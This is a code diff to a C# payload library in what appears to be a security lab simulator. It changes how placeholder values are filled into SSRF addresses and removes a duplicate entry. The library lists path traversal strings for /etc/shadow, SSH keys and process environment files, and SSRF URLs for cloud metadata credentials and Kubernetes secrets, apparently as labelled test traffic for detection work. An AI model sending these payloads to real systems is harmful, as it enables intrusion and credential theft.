@@ -3,7 +3,7 @@ using Vedette.Lab.Simulation;
 
 namespace Vedette.Lab.Attacks;
 
-/// <summary>Payloads by type of injection, unencoded. ¤n stands for a number, ¤w for a word, ¤h for a host of the attacker's.</summary>
+/// <summary>Payloads by type of injection, unencoded. ¤n stands for a number, ¤b for one up to 254, ¤w for a word, ¤h for a host of the attacker's.</summary>
 public static class PayloadLibrary
 {
     private static readonly string[] Words = ["id", "name", "users", "data", "probe", "zq", "kx", "test", "acct", "tmp", "row", "val"];
@@ -29,7 +29,7 @@ public static class PayloadLibrary
         [TruthType.PathTraversal] =
         [
             "../../../../etc/passwd", "..\\..\\..\\windows\\win.ini", "....//....//....//etc/shadow", "../../../../proc/self/environ", "/../../../../etc/hosts", "..;/..;/manager/html", "../../../../../../var/log/auth.log", "¤w/../../../../etc/passwd\0.png", "../../WEB-INF/web.xml",
-            "..%2f..%2f..%2fetc%2fgroup", "..%c0%af..%c0%afetc%c0%afpasswd", "file:///etc/passwd", "../../../home/¤w/.ssh/id_rsa", "..././..././etc/passwd",
+            "..%2f..%2f..%2fetc%2fgroup", "..%c0%af..%c0%afetc%c0%afpasswd", "../../../home/¤w/.ssh/id_rsa", "..././..././etc/passwd",
         ],
         [TruthType.FileInclusion] =
         [
@@ -64,7 +64,7 @@ public static class PayloadLibrary
         [TruthType.Ssrf] =
         [
             "http://169.254.169.254/latest/meta-data/iam/security-credentials/", "http://metadata.google.internal/computeMetadata/v1/instance/", "http://127.0.0.1:¤n/", "http://localhost:6379/", "http://[::1]:¤n/admin", "http://0.0.0.0:9200/_cat/indices", "gopher://127.0.0.1:6379/_INFO", "dict://127.0.0.1:11211/stat",
-            "http://2130706433/", "http://0x7f000001:8080/", "http://10.0.0.¤n/", "http://192.168.1.¤n:8080/manager", "http://¤w.¤h/", "http://127.1/", "file:///etc/passwd", "http://trusted.example@169.254.169.254/", "http://kubernetes.default.svc/api/v1/secrets",
+            "http://2130706433/", "http://0x7f000001:8080/", "http://10.0.0.¤b/", "http://192.168.1.¤b:8080/manager", "http://¤w.¤h/", "http://127.1/", "file:///etc/passwd", "http://trusted.example@169.254.169.254/", "http://kubernetes.default.svc/api/v1/secrets",
         ],
         [TruthType.Log4shell] =
         [
@@ -91,7 +91,8 @@ public static class PayloadLibrary
         if (!payload.Contains('¤', StringComparison.Ordinal)) return payload;
         // One number for all places: 4711=4711 must hold.
         string number = random.Between(1, random.Chance(0.5) ? 20 : 9999).ToString(CultureInfo.InvariantCulture);
-        return payload.Replace("¤n", number, StringComparison.Ordinal).Replace("¤w", random.Pick(Words), StringComparison.Ordinal)
+        string octet = random.Between(1, 254).ToString(CultureInfo.InvariantCulture);
+        return payload.Replace("¤n", number, StringComparison.Ordinal).Replace("¤b", octet, StringComparison.Ordinal).Replace("¤w", random.Pick(Words), StringComparison.Ordinal)
             .Replace("¤h", random.Pick(Hosts), StringComparison.Ordinal);
     }
 }
